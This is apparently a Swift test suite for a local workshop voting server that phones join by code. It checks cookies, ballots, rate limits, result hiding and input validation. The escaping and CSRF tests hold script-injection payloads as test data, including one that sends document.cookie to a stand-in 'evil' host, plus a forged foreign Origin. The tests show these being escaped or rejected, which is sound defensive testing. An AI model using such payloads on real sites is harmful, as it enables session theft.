import Foundation
import Testing
import WorkshopModel
@testable import WorkshopWeb

/// The server on 127.0.0.1 with a random free port, driven as phones would drive it.
@Suite struct RoomServerTests {
    @Test func joiningNeedsTheCodeAndSetsStrictHttpOnlyCookies() async throws {
        let room = try await ConsoleStandIn()
        let home = try await room.http.send("GET", "/")
        #expect(home.status == 200)
        #expect(home.body.contains("name=\"code\""))
        #expect(try await room.http.send("GET", "/room").status == 303)

        let wrong = try await room.http.send("POST", "/join", headers: ["Content-Type": "application/x-www-form-urlencoded"],
                                       body: Array("code=ZZZ999".utf8))
        #expect(wrong.status == 403)
        #expect(wrong.cookies.isEmpty)
        #expect(wrong.body.contains("klopt niet"))

        let typed = try await room.http.send("POST", "/join", headers: ["Content-Type": "application/x-www-form-urlencoded"],
                                       body: Array("code=abc-234".utf8))
        #expect(typed.status == 303)
        #expect(typed.header("Location") == "/room")
        let setCookies = typed.headers.filter { $0.0.lowercased() == "set-cookie" }.map(\.1)
        #expect(setCookies.count == 2)
        #expect(setCookies.allSatisfy { $0.contains("HttpOnly") && $0.contains("SameSite=Strict") })
        #expect(typed.cookies[RoomServer.deviceCookie]?.count == 32)

        let cookie = try await room.joinedPhone()
        let page = try await room.http.send("GET", "/room", headers: ["Cookie": cookie])
        #expect(page.status == 200)
        #expect(page.body.contains("Hoe pakken we warmte aan?"))
        #expect(page.body.contains("lang=\"nl\""))
    }

    @Test func aVoteLandsInTheTallyAndASecondVoteReplacesTheFirst() async throws {
        let room = try await ConsoleStandIn()
        room.moderator(.openPoll(id: "scale"))
        let phone = try await room.joinedPhone()
        let other = try await room.joinedPhone()

        let first = try await room.postForm("/vote", "poll=scale&choice=4", cookie: phone)
        #expect(first.status == 303)
        #expect(first.header("Location") == "/room?sent=vote")
        #expect(room.drain() == 1)
        #expect(room.session.tally(poll: "scale")?.rows.first { $0.value == 4 }?.count == 1)

        #expect(try await room.postForm("/vote", "poll=scale&choice=2", cookie: phone).status == 303)
        #expect(try await room.postForm("/vote", "poll=scale&choice=2", cookie: other).status == 303)
        room.drain()
        let tally = try #require(room.session.tally(poll: "scale"))
        #expect(tally.voters == 2)
        #expect(tally.rows.first { $0.value == 4 }?.count == 0)
        #expect(tally.rows.first { $0.value == 2 }?.count == 2)

        let page = try await room.http.send("GET", "/room?sent=vote", headers: ["Cookie": phone])
        #expect(page.body.contains("id=\"choice-2\" name=\"choice\" value=\"2\" checked"))
        #expect(page.body.contains("Je stem is ontvangen. Je kunt ze wijzigen"))
    }

    @Test func everyPollKindAcceptsItsFormAndJSON() async throws {
        let room = try await ConsoleStandIn()
        let phone = try await room.joinedPhone()
        let cases: [(poll: String, form: String, json: String, expected: Choice)] = [
            ("single", "poll=single&choice=1", #"{"poll":"single","choice":1}"#, .option(1)),
            ("multi", "poll=multi&choice=0&choice=2", #"{"poll":"multi","choice":[0,2]}"#, .options([0, 2])),
            ("ranking", "poll=ranking&rank-0=2&rank-1=&rank-2=1", #"{"poll":"ranking","ranking":[2,0]}"#, .ranking([2, 0])),
            ("light", "poll=light&choice=green", #"{"poll":"light","choice":"green"}"#, .light(.green)),
            ("open", "poll=open&text=Warmtenet+%C3%A9%C3%A9n", #"{"poll":"open","text":"Warmtenet één"}"#, .text("Warmtenet één")),
        ]
        for item in cases {
            room.moderator(.openPoll(id: item.poll))
            #expect(try await room.postForm("/vote", item.form, cookie: phone).status == 303, "\(item.poll) form")
            let json = try await room.http.send("POST", "/vote", headers: ["Content-Type": "application/json", "Cookie": try await room.joinedPhone()],
                                          body: Array(item.json.utf8))
            #expect(json.status == 202, "\(item.poll) json: \(json.body)")
            #expect(json.body.contains("\"ok\":true"))
            room.drain()
            let ballots = room.session.pollState(id: item.poll).ballots
            #expect(ballots.count == 2, "\(item.poll)")
            #expect(ballots.values.allSatisfy { $0 == item.expected }, "\(item.poll): \(ballots)")
            room.moderator(.closePoll(id: item.poll))
        }
    }

    @Test func aRoundAnswerIsRecordedWithItsOriginAndOptionalName() async throws {
        let room = try await ConsoleStandIn()
        let phone = try await room.joinedPhone()
        let reply = try await room.postForm("/answer", "block=debat&text=Meer+warmtenetten&name=&group=", cookie: phone)
        #expect(reply.status == 303)
        let named = try await room.postForm("/answer", "block=debat&text=Isoleren+eerst&name=anna+peeters&group=Groen", cookie: phone)
        #expect(named.status == 303)
        let newcomer = try await room.postForm("/answer", "block=debat&text=Zonnepanelen&name=Jan&group=CD%26V", cookie: phone)
        #expect(newcomer.status == 303)
        #expect(try await room.postForm("/answer", "block=debat&text=+%0A+", cookie: phone).status == 422)
        #expect(room.drain() == 3)
        let answers = room.session.answers(inBlock: "debat")
        #expect(answers.map(\.text) == ["Meer warmtenetten", "Isoleren eerst", "Zonnepanelen"])
        #expect(answers[0].person == nil)
        #expect(answers[1].person == 1)  // Anna Peeters on the roster
        #expect(room.session.person(answers[2].person ?? 0)?.name == "Jan")
        #expect(room.session.person(answers[2].person ?? 0)?.group == "CD&V")
        let token = phone.components(separatedBy: "\(RoomServer.deviceCookie)=")[1]
        #expect(answers.allSatisfy { $0.origin == .device(token) })
    }

    @Test func badRequestsAreRefusedAndWriteNothing() async throws {
        let room = try await ConsoleStandIn(deviceBurst: 100)
        room.moderator(.openPoll(id: "scale"))
        let phone = try await room.joinedPhone()
        let huge = "block=debat&text=" + String(repeating: "a", count: 5_000)
        let checks: [(String, RawHTTP.Reply, Int)] = [
            ("oversized", try await room.postForm("/answer", huge, cookie: phone), 413),
            ("no join cookie", try await room.postForm("/vote", "poll=scale&choice=3", cookie: ""), 401),
            ("wrong join cookie", try await room.postForm("/vote", "poll=scale&choice=3",
                                                    cookie: "\(RoomServer.joinCookie)=ABC235; \(RoomServer.deviceCookie)=\(String(repeating: "a", count: 32))"), 401),
            ("no device", try await room.postForm("/vote", "poll=scale&choice=3", cookie: "\(RoomServer.joinCookie)=ABC234"), 401),
            ("bad escape", try await room.postForm("/vote", "poll=scale&choice=%G1", cookie: phone), 400),
            ("bad utf8", try await room.postForm("/vote", "poll=scale&choice=%FF", cookie: phone), 400),
            ("bad json", try await room.http.send("POST", "/vote", headers: ["Content-Type": "application/json", "Cookie": phone],
                                            body: Array(#"{"poll": "scale", "choice": tr"#.utf8)), 400),
            ("json bool", try await room.http.send("POST", "/vote", headers: ["Content-Type": "application/json", "Cookie": phone],
                                             body: Array(#"{"poll":"scale","choice":true}"#.utf8)), 400),
            ("wrong type", try await room.http.send("POST", "/vote", headers: ["Content-Type": "text/plain", "Cookie": phone],
                                              body: Array("poll=scale&choice=3".utf8)), 415),
            ("out of range", try await room.postForm("/vote", "poll=scale&choice=9", cookie: phone), 422),
            ("twice the field", try await room.postForm("/vote", "poll=scale&choice=3&choice=4", cookie: phone), 400),
            ("poll not open", try await room.postForm("/vote", "poll=single&choice=1", cookie: phone), 409),
            ("unknown poll", try await room.postForm("/vote", "poll=nope&choice=1", cookie: phone), 409),
            ("round not open", try await room.postForm("/answer", "block=slot&text=hallo", cookie: phone), 409),
            ("answer while a poll is open", try await room.postForm("/answer", "block=debat&text=ja", cookie: phone), 409),
            ("foreign origin", try await room.postForm("/vote", "poll=scale&choice=3", cookie: phone,
                                                 extra: ["Origin": "http://evil.example"]), 403),
        ]
        for (name, reply, status) in checks {
            #expect(reply.status == status, "\(name): \(reply.status) \(reply.body.prefix(200))")
        }
        #expect(room.inbox.count == 0)
        let json = try await room.http.send("POST", "/vote", headers: ["Content-Type": "application/json", "Accept": "application/json", "Cookie": phone],
                                      body: Array(#"{"poll":"scale","choice":42}"#.utf8))
        #expect(json.status == 422)
        #expect(json.body.contains("past niet bij deze vraag"))
        #expect(room.inbox.count == 0)
    }

    @Test func scriptInjectionIsShownAsText() async throws {
        var agenda = ConsoleStandIn.agenda(question: "<img src=x onerror=alert(1)>?")
        agenda.title = "<script>alert('t')</script>"
        let room = try await ConsoleStandIn(agenda: agenda)
        let phone = try await room.joinedPhone()
        let page = try await room.http.send("GET", "/room", headers: ["Cookie": phone])
        #expect(!page.body.contains("<img src=x"))
        #expect(page.body.contains("&lt;img src=x onerror=alert(1)&gt;?"))
        #expect(!page.body.contains("<script>alert"))

        room.moderator(.openPoll(id: "open"))
        let evil = "<script>document.location='http://evil/'+document.cookie</script>"
        let reply = try await room.postForm("/vote", "poll=open&text=" + evil.addingPercentEncoding(withAllowedCharacters: .alphanumerics)!, cookie: phone)
        #expect(reply.status == 303)
        room.drain()
        room.moderator(.closePoll(id: "open"))
        room.moderator(.revealPoll(id: "open", revealed: true))
        let results = try await room.http.send("GET", "/room", headers: ["Cookie": phone])
        #expect(results.body.contains("&lt;script&gt;document.location=&#39;http://evil/&#39;+document.cookie&lt;/script&gt;"))
        #expect(!results.body.contains("<script>document"))
        #expect(results.header("Content-Security-Policy")?.contains("script-src 'self'") == true)
        #expect(results.header("X-Content-Type-Options") == "nosniff")
    }

    @Test func aPhoneThatSendsTooFastIsSlowedDown() async throws {
        // One submission back per minute: a loaded machine taking seconds over the five posts refills nothing.
        let room = try await ConsoleStandIn(deviceBurst: 3, devicePerSecond: 1.0 / 60)
        room.moderator(.openPoll(id: "scale"))
        let phone = try await room.joinedPhone()
        var statuses: [Int] = []
        for value in 1...5 { statuses.append(try await room.postForm("/vote", "poll=scale&choice=\(value)", cookie: phone).status) }
        #expect(statuses == [303, 303, 303, 429, 429])
        #expect(try await room.postForm("/vote", "poll=scale&choice=5", cookie: try await room.joinedPhone()).status == 303)
        #expect(room.drain() == 4)
    }

    @Test func guessingTheJoinCodeIsSlowedDown() async throws {
        let room = try await ConsoleStandIn(joinBurst: 3)
        var statuses: [Int] = []
        for guess in ["AAAAAA", "BBBBBB", "CCCCCC", "ABC234"] { statuses.append(try await room.http.send("GET", "/j/\(guess)").status) }
        #expect(statuses == [403, 403, 403, 429])
    }

    @Test func resultsAppearOnlyWhenRevealedAndNoNamesOrAnswersAreServed() async throws {
        let room = try await ConsoleStandIn()
        let phone = try await room.joinedPhone()
        #expect(try await room.postForm("/answer", "block=debat&text=Geheim+antwoord&name=Karel+Geheim&group=X", cookie: phone).status == 303)
        room.drain()
        room.moderator(.hideAnswer(id: room.session.answers[0].id, hidden: true))
        room.moderator(.openPoll(id: "single"))
        #expect(try await room.postForm("/vote", "poll=single&choice=0", cookie: phone).status == 303)
        room.drain()
        let other = try await room.joinedPhone()
        var everything = ""
        for path in ["/", "/room", "/room/content", "/state.json", "/style.css", "/app.js"] {
            everything += try await room.http.send("GET", path, headers: ["Cookie": other]).body
        }
        room.moderator(.closePoll(id: "single"))
        let closed = try await room.http.send("GET", "/room", headers: ["Cookie": other]).body
        #expect(closed.contains("Hoe pakken we warmte aan?"))  // back to the round's question
        #expect(!closed.contains("class=\"results\""))
        room.moderator(.revealPoll(id: "single", revealed: true))
        let revealed = try await room.http.send("GET", "/room", headers: ["Cookie": other]).body
        #expect(revealed.contains("class=\"results\""))
        #expect(revealed.contains("1 stem"))
        everything += closed + revealed
        #expect(!everything.contains("Karel"))
        #expect(!everything.contains("Geheim"))
        #expect(!everything.contains("Anna"))
        #expect(try await room.http.send("GET", "/session.sqlite", headers: ["Cookie": other]).status == 404)
        #expect(try await room.http.send("POST", "/agenda", headers: ["Cookie": other]).status == 404)
    }

    @Test func followingPagesHearOfEveryChange() async throws {
        let room = try await ConsoleStandIn()
        let phone = try await room.joinedPhone()
        let version = room.version
        let http = room.http
        let stream = Task {
            try await offPool {
                try http.exchange("GET", "/events", headers: ["Cookie": phone], until: {
                    String(decoding: $0, as: UTF8.self).contains("data: \(version + 1)")
                }, seconds: 5)
            }
        }
        try await Task.sleep(for: .milliseconds(300))
        room.moderator(.openPoll(id: "scale"))
        let received = String(decoding: try await stream.value, as: UTF8.self)
        #expect(received.contains("text/event-stream"))
        // The stream keeps only the newest version for a page (it needs nothing older), so under load the
        // current version may be replaced by the next before it is written; the change itself always comes.
        #expect(received.contains("data: \(version + 1)"))
        let sent = received.components(separatedBy: "data: ").dropFirst().compactMap { Int($0.prefix { $0.isNumber }) }
        #expect(sent == [version, version + 1] || sent == [version + 1], "\(sent)")
        let state = try await room.http.send("GET", "/state.json", headers: ["Cookie": phone])
        #expect(state.body == "{\"version\":\(version + 1)}")
    }

    @Test func stoppingClosesTheServerAtOnce() async throws {
        let room = try await ConsoleStandIn()
        let phone = try await room.joinedPhone()
        room.server.stop()
        try await Task.sleep(for: .milliseconds(300))
        let after = try? await room.http.send("GET", "/room", headers: ["Cookie": phone], readFor: 1)
        #expect(after == nil || after?.status != 200)
        #expect(room.inbox.count == 0)
    }

    @Test func theConsoleIsWokenThroughTheInboxDescriptor() async throws {
        let room = try await ConsoleStandIn()
        room.moderator(.openPoll(id: "light"))
        let phone = try await room.joinedPhone()
        var watcher = pollfd(fd: room.inbox.fileDescriptor, events: Int16(POLLIN), revents: 0)
        #expect(poll(&watcher, 1, 0) == 0)
        #expect(try await room.postForm("/vote", "poll=light&choice=red", cookie: phone).status == 303)
        #expect(poll(&watcher, 1, 1000) == 1)
        #expect(room.drain() == 1)
        watcher.revents = 0
        #expect(poll(&watcher, 1, 0) == 0)
        #expect(room.session.tally(poll: "light")?.rows.first?.count == 1)
    }

    @Test func thePageSpeaksEnglishForAnEnglishSession() async throws {
        let room = try await ConsoleStandIn(agenda: ConsoleStandIn.agenda(language: .en, question: "How do we heat?"))
        let page = try await room.http.send("GET", "/room", headers: ["Cookie": try await room.joinedPhone()])
        #expect(page.body.contains("lang=\"en\""))
        #expect(page.body.contains("Your answer"))
        #expect(page.body.contains("not to the internet"))
    }
}
